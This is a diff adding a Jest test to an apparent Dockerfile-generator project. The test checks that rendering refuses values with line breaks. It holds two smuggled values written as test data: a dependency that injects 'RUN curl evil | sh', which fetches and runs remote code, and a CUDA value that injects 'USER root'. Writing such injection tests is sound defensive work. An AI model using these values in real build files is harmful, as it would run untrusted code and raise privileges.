@@ -383,3 +383,29 @@ bundles:
     expect(unknown.exitCode).toBe(64);
   });
 });
+
+describe('the last guard before rendering', () => {
+  it('refuses a value with a line break even if it got past validation', () => {
+    const loaded = parseSpecText(
+      'version: 1\nmodels:\n  m:\n    torch: "2.4"\n    cuda: cpu\n    source: pip\n',
+      'envgen.yaml',
+    );
+    const { models } = resolveSpec(buildTable(), loaded, ['m']);
+    const tampered = models.map((m) => ({
+      ...m,
+      dependencies: [...m.dependencies, 'numpy\nRUN curl evil | sh'],
+    }));
+    expect(() =>
+      renderPlan({ specFile: 'envgen.yaml', spec: loaded.spec, models: tampered, version: '0' }),
+    ).toThrow(/control character|one-line/);
+    const inDockerfile = models.map((m) => ({ ...m, cuda: '12.1\nUSER root' }));
+    expect(() =>
+      renderPlan({
+        specFile: 'envgen.yaml',
+        spec: loaded.spec,
+        models: inDockerfile,
+        version: '0',
+      }),
+    ).toThrow(/control character|one-line/);
+  });
+});
